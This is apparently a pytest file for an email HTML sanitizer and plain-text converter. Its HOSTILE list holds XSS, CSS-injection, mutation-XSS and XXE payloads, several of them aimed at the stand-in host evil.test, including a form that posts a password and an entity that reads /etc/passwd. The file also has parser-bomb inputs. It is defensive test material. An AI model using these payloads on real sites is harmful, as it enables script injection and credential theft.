"""HTML that people send, cut down; and its words."""

import contextlib
import html as python_html
import time

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.domain.mail.errors import InvalidContent
from server.domain.mail.plain_text import plain_text
from server.domain.mail.sanitizing import as_html, sanitized

HOSTILE = [
    "<script>x()</script>",
    "<scr<script>ipt>y</script>",
    "<img src=x onerror=x()>",
    "<svg/onload=x()>",
    "<svg><script>x()</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
    "<a href='javascript:x()'>",
    "<a href=' jAvAscript:x()'>",
    "<a href='java\tscript:x()'>",
    "<a href='&#106;avascript:x()'>",
    "<a href='data:text/html,<script>x()</script>'>",
    "<a href='vbscript:x()'>",
    "<a href='//evil.test'>",
    "<a href='file:///etc/passwd'>",
    "<p style='background:url(https://evil.test/t)'>",
    "<p style='background:u\\72l(https://evil.test/t)'>",
    "<p style='width:expression(x())'>",
    "<p style='position:fixed;top:0'>",
    "<p style='color:red;}@import url(x)'>",
    "<style>@import 'https://evil.test'</style>",
    "<link rel=stylesheet href=https://evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test>",
    "<form action=https://evil.test><input name=password></form>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<video src=x poster=x></video>",
    "<table background=https://evil.test/t><tr><td background=x>",
    "<body onload=x() background=x>",
    "<!--[if IE]><script>x()</script><![endif]-->",
    "<?xml-stylesheet href='x'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
    "<textarea><script>x()</script>",
    "<title><img src=x onerror=x()></title>",
    "</div></body></html><script>x()</script>",
]
ORDINARY = {"html", "head", "body", "div", "p", "a", "span", "table", "tbody", "tr", "td"}


def cleaned(content: str) -> str:
    return as_html(sanitized(content))


def words(content: str) -> str:
    return plain_text(sanitized(content))


class TestSanitized:
    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_what_runs_is_fetched_or_moves_is_gone_and_the_words_stay(self, hostile: str) -> None:
        made = cleaned(f"<p>before</p>{hostile}<p>after</p>") if "<!DOCTYPE" not in hostile else cleaned(hostile)
        for element in html5lib.parse(made, namespaceHTMLElements=False).iter():
            assert element.tag in ORDINARY, made
            assert set(element.attrib) <= {"href", "style"}
        for sign in ("x()", "evil", "passwd", "url", "expression", "position", "import", "script"):
            assert sign not in made, made
        assert "<p>before</p>" in made or "<!DOCTYPE" in hostile

    def test_what_belongs_into_a_mail_stays(self) -> None:
        content = (
            '<h1>T</h1><p style="color: #123456; text-align: center">a <b>b</b><br>'
            '<a href="https://a.test/?b=1&amp;c=2">l</a><a href="mailto:a@b.test">m</a></p>'
            '<table width="100"><tr><td colspan="2">c</td></tr></table><ul><li>d</li></ul>'
        )
        assert cleaned(content) == f"<div>{content}</div>"

    def test_it_is_the_same_when_cleaned_again(self) -> None:
        for hostile in HOSTILE[:-4]:
            once = cleaned(f"<p>a</p>{hostile}")
            assert cleaned(once) == f"<div>{once}</div>"

    @given(st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=60))
    def test_words_are_words(self, text: str) -> None:
        if text.strip() and not any(sign in text for sign in "\ufffe\uffff"):
            read = html5lib.parse(cleaned(f"<p>{python_html.escape(text)}</p>"), namespaceHTMLElements=False)
            assert "".join(read.itertext()) == text

    @pytest.mark.parametrize(
        "content", ["", " ", "<div>" * 101, "<b>x</b>" * 11_000, "<frameset><frame src=x></frameset>", "a\0b", "a\x1bb"]
    )
    def test_what_is_no_mail_is_refused(self, content: str) -> None:
        with pytest.raises(InvalidContent):
            cleaned(content)

    @pytest.mark.parametrize(
        "bomb", ["<div>" * 40_000, "<b>x</b>" * 25_000, "<foo>x" * 30_000, "<" * 200_000, "&" * 200_000]
    )
    def test_a_bomb_costs_little(self, bomb: str) -> None:
        began = time.process_time()
        with contextlib.suppress(InvalidContent):
            words(bomb)
        assert time.process_time() - began < 5


class TestPlainText:
    @pytest.mark.parametrize(
        ("content", "text"),
        [
            ("Hello", "Hello\n"),
            ("<p>One</p>\n<p>Two</p>", "One\n\nTwo\n"),
            ("<h1>T</h1>a<br>b", "T\n\na\nb\n"),
            ("<ul><li>a</li><li>b <b>c</b></li></ul>", "- a\n- b c\n"),
            ("<ol><li>a</li><li>b</li></ol>", "1. a\n2. b\n"),
            ('<a href="https://a.test">here</a>', "here (https://a.test)\n"),
            ('<a href="https://a.test">https://a.test</a>', "https://a.test\n"),
            ('<a href="mailto:a@b.test">a@b.test</a>', "a@b.test\n"),
            ("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "1  2\n3\n"),
            ("<pre>if x:\n  y</pre>", "if x:\n  y\n"),
            ("a&nbsp;&lt;b&gt; &amp; c", "a <b> & c\n"),
            ("<p>  much \n\n space </p>", "much space\n"),
            ('<img src="x" alt="A chart">', "A chart\n"),
        ],
    )
    def test_of(self, content: str, text: str) -> None:
        assert words(content) == text
